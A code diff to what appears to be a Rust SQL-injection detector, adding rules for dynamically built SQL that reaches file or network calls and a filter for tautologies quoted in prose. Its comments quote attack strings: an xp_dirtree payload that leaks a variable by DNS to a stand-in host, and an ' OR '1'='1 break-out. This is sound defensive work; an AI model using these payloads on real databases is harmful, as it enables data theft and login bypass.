@@ -618,6 +618,10 @@ struct Executed {
     /// expression longer than [`MAX_EXECUTED`], or strings that together
     /// grow past the folding budget (four times the text, plus 16 KiB).
     unread: Option<Range<usize>>,
+    /// Each expression that is no constant (`'master..xp_dirtree "\\\\' +
+    /// @h + '.oast.site\\a"'`): its literals joined, a variable's place
+    /// kept by one letter, with the span of its statement.
+    built: Vec<(String, Range<usize>)>,
 }
 
 /// The strings `text` executes as SQL (`EXECUTE <expr>`, `EXECUTE
@@ -695,20 +699,31 @@ fn executed_in(text: &str, outer: Option<&Range<usize>>, level: usize, budget: &
             out.unread.get_or_insert(at);
             continue;
         }
-        let Ok(expr) =
-            Parser::new(&PostgreSqlDialect {}).with_recursion_limit(RECURSION_LIMIT).try_with_sql(source).and_then(|mut p| p.parse_expr())
-        else {
+        let parsed =
+            Parser::new(&PostgreSqlDialect {}).with_recursion_limit(RECURSION_LIMIT).try_with_sql(source).and_then(|mut p| p.parse_expr());
+        let folded = parsed.ok().and_then(|expr| constant(&expr, 0));
+        let Some(s) = folded else {
+            // (Its literals are the expression's own tokens: no more text
+            // than the expression itself.)
+            let literals: Vec<&str> = t
+                .get(first..=last.unwrap_or(first))
+                .unwrap_or(&[])
+                .iter()
+                .filter(|y| y.kind == Kind::Str)
+                .map(|y| y.text.as_str())
+                .collect();
+            if literals.len() > 1 {
+                out.built.push((literals.join("x"), at));
+            }
             continue;
         };
-        if let Some(s) = constant(&expr, 0) {
-            match budget.checked_sub(s.len()) {
-                Some(left) => {
-                    *budget = left;
-                    out.strings.push((s, at));
-                }
-                None => {
-                    out.unread.get_or_insert(at);
-                }
+        match budget.checked_sub(s.len()) {
+            Some(left) => {
+                *budget = left;
+                out.strings.push((s, at));
+            }
+            None => {
+                out.unread.get_or_insert(at);
             }
         }
     }
@@ -997,6 +1012,17 @@ fn analyze_text(s: &Subject<'_>, out: &mut Vec<Hit>, dollar_literals: bool) {
         if let Some(at) = executed.unread {
             // (Dynamic SQL too large to evaluate is not passed over.)
             found.push((Confidence::Medium, "sql.dynamic-unread", at));
+        }
+        // Dynamic SQL that joins a variable into a call that reaches a file
+        // or the network (`EXEC('master..xp_dirtree "\\' + @h +
+        // '.oast.site\a"')`: the value read a moment before, sent out by
+        // DNS) is judged as the call written out.
+        for (sql, at) in &executed.built {
+            let mut inner = Vec::new();
+            dangerous_calls(&lex(sql, 0, sql.len(), &GenericDialect {}), true, &mut inner);
+            if inner.iter().any(|(_, rule, _)| *rule == "sql.file-or-network") {
+                found.push((Confidence::Medium, "sql.file-or-network", at.clone()));
+            }
         }
         for (sql, at) in executed.strings {
             if escalation_written(&sql).is_some() || catalog_write(&sql).is_some() {
@@ -2936,6 +2962,14 @@ fn break_out(tail: &[Tok], prose: bool, closing: bool, found: &mut Vec<(Confiden
                 matches!(n.kind, Kind::Str | Kind::Semi | Kind::RParen | Kind::Op | Kind::Comma)
                     || n.is_any(&["AND", "OR", "LIMIT", "ORDER", "GROUP", "UNION", "HAVING", "INTO", "XOR", "PROCEDURE", "--"])
             }) || tail.iter().any(|x| x.kind == Kind::Comment && x.at.start >= *end && next.is_some_and(|n| x.at.start <= n.at.start))
+        });
+        // In prose, a condition whose last literal runs on as a sentence
+        // (`entering ' OR '1'='1 makes the WHERE clause always true.`) is
+        // the write-up's: closed by the application's quote, that literal
+        // would compare the whole sentence, and no break-out does that.
+        let cond = cond.filter(|(end, _)| {
+            !prose
+                || !sig.iter().find(|x| x.at.end == *end).is_some_and(|x| x.kind == Kind::Str && x.text.split_whitespace().nth(3).is_some())
         });
         if let Some((end, taut)) = cond {
             let rule = if taut && !op.is_any(&["AND"]) && !op.is_op("&&") { "sql.tautology" } else { "sql.boolean-blind" };
